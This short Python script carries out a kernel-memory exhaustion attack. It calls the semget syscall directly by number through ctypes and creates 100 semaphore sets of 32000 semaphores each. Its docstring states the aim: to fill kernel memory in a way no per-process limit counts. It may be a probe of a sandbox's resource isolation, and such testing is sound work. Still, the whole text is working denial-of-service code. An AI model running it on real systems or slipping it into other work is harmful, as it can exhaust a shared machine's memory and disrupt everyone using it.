"""Fills the kernel's memory with semaphores, which no limit of a process counts."""

import ctypes
import platform
number = {"x86_64": 64, "aarch64": 190}[platform.machine()]
for _ in range(100):
    if ctypes.CDLL(None).syscall(number, 0, 32000, 0o1600) < 0:
        raise PermissionError("semget")
